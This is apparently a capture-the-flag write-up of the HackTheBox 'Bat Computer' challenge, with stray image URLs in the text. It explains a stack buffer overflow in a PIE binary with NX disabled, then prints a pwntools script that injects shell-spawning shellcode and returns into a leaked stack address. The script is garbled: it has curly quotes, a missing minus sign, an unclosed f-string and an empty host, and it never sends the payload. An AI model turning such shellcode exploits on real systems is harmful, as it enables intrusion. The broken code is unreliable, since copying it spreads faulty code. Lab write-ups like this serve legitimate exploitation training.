We covered a binary that has only PIE or Position Independent Executable enabled as a protection while NX was disabled. We analyzed the binary with Ghidra and GDB. We discovered that the binary leaks the memory address of the variable used to store the user input. Based on that, we also found that the binary reads up to 137 bytes of user input and stores it in a variable whose buffer size is 76 bytes which is the core vulnerability of this app. We caused segmentation fault based on that and found the offset to be 84 bytes. Based on the analysis above, we built the exploitation script carrying the connection parameter and the final payload. This was part of HackTheBox Bat Computer | Intro to binary exploitationBuffer Overflow Techniques Notes

Exploit Code is below


from pwn import *

context.binary = ELF(‘./batcomputer’)

con = remote(‘’,31662)



stack_base = int((“0x”+con.recv().decode(‘latin-1’).split()[0]),16)

log.success(f‘stack base: {hex(stack_base)})



payload = asm(shellcraft.popad() + shellcraft.sh()) # shellcode

payload += b‘A’*(84 len(payload)) # nop

payload += p64(stack_base) # stack base





Video WalkthroughAbout the Author

I create cybersecurity notes, digital marketingnotes and online courses. I also provide digital marketing consulting including but not limited to SEO, Google & Meta ads and CRM administration.

View Articles